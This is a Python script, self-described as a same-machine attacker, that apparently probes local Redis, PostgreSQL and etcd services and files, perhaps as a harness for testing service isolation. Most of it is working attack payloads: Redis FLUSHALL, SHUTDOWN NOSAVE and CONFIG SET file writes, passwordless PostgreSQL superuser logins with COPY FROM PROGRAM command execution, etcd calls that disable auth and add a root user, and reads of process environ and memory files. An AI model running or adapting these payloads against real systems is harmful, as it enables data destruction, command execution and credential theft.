"""An attacker on the same computer, in the standard library alone. Run as a script it attacks.

It says things to every port in the words of every engine, and looks at every file and process.
"""

import base64
import json
import os
import re
import socket
import struct
import sys
from concurrent.futures import ThreadPoolExecutor


def payloads(secret="", token=""):
    """What to say: with the right secret, each gets at the key `seats` of one engine."""
    get = b'{"kind": "get", "key": "seats"}\n'
    put = b'{"kind": "put", "key": "seats", "value": "1"}\n'
    line = secret.encode() + b"\n"
    yield from (line + get, line + b'{"kind": "state"}\n', get)
    yield from () if secret else (line + put, put, b"guess\n" + put, b"\npeer\n" + bytes(64))
    yield b"AUTH " + secret.encode() + b"\r\nGET seats\r\n"
    if not secret:
        yield b"GET seats\r\nSET seats 1\r\n"
        yield b"REPLICAOF NO ONE\r\nFLUSHALL\r\nSHUTDOWN NOSAVE\r\n"
    for path in _ETCD:
        if not secret or path == "kv/range":
            yield _http(path, token)
    for statement in ("SELECT value FROM pairs", "UPDATE pairs SET value = '1'"):
        yield from _postgresql(statement)


def runs(marker):
    """What makes an engine run or write something, if it lets anybody in."""
    yield from _postgresql(f"COPY pairs FROM PROGRAM 'touch {marker}/postgresql'")
    yield f"CONFIG SET dir {marker}\r\nSET x 1\r\nSAVE\r\n".encode()
    yield f"EVAL \"return redis.call('CONFIG', 'SET', 'dir', '{marker}')\" 0\r\nBGSAVE\r\n".encode()


_KEY = "c2VhdHM="  # seats
# Not the alarm that etcd lets anybody set off: under it 3.4.23 forgets its passwords, as the
# docstring of `Etcd` says.
_ETCD = {
    "kv/range": {"key": _KEY, "serializable": True},
    "kv/put": {"key": _KEY, "value": "MQ=="},
    "kv/compaction": {"revision": "2", "physical": True},
    "maintenance/snapshot": {},
    "maintenance/status": {},
    "auth/user/add": {"name": "root", "password": "x"},
    "auth/disable": {},
}


def _http(path, token):
    text = json.dumps(_ETCD[path])
    proof = f"Authorization: {token}\r\n" if token else ""
    head = f"POST /v3/{path} HTTP/1.0\r\nContent-Length: {len(text)}\r\n{proof}"
    return f"{head}\r\n{text}".encode()


def _postgresql(statement):
    """A start as superuser and a statement: with no password, and with an empty one."""
    start = struct.pack("!i", 196_608) + b"user\0postgres\0database\0postgres\0\0"
    start = struct.pack("!i", len(start) + 4) + start
    query = statement.encode() + b"\0"
    query = b"Q" + struct.pack("!i", len(query) + 4) + query
    yield start + query
    yield start + b"p" + struct.pack("!i", 5) + b"\0" + query


def reach(door):
    """A connection to a port, or to a socket that is a file."""
    if isinstance(door, int):
        return socket.create_connection(("127.0.0.1", door), timeout=5)
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(5)
    link.connect(door)
    return link


def talk(door, words):
    """What a door answers."""
    heard = b""
    try:
        with reach(door) as link:
            link.sendall(words)
            link.settimeout(1)
            while piece := link.recv(65_536):
                heard += piece
    except OSError:
        pass  # it hangs up, or has said all
    return heard


def opens(path):
    """Whether a file can be read or written, or a socket be reached."""
    for mode in ("rb", "ab"):
        try:
            with open(path, mode):
                return True
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_UNIX) as link:
            link.connect(path)
            return True
    except OSError:
        return False


def lists(folder):
    """Whether the names in a folder can be read."""
    try:
        return bool(os.listdir(folder))
    except OSError:
        return False


def decode(heard):
    """Text, and what base64 hides, as etcd's answers do."""
    text = heard.decode("utf-8", "replace")
    found = re.findall(r"[A-Za-z0-9+/]{12,}=*", text)
    hidden = [base64.b64decode(each[: len(each) // 4 * 4]) for each in found]
    return text + " ".join(each.decode("utf-8", "replace") for each in hidden)


def attack(targets):
    """Try everything."""
    said = [*payloads(), *runs(targets["marker"])]
    with ThreadPoolExecutor(16) as many:
        calls = [many.submit(talk, door, words) for door in targets["doors"] for words in said]
        answers = [each.result() for each in calls]
    proc = [f"/proc/{pid}/{name}" for pid in targets["pids"] for name in ("environ", "mem")]
    return {
        "user": getattr(os, "geteuid", int)(),
        "calls": len(answers),
        "answers": " ".join(map(decode, answers)),
        "opened": [path for path in [*targets["files"], *proc] if opens(path)],
        "listed": [path for path in [targets["folder"], *targets["files"]] if lists(path)],
    }


if __name__ == "__main__":
    print(json.dumps(attack(json.loads(sys.argv[1]))))
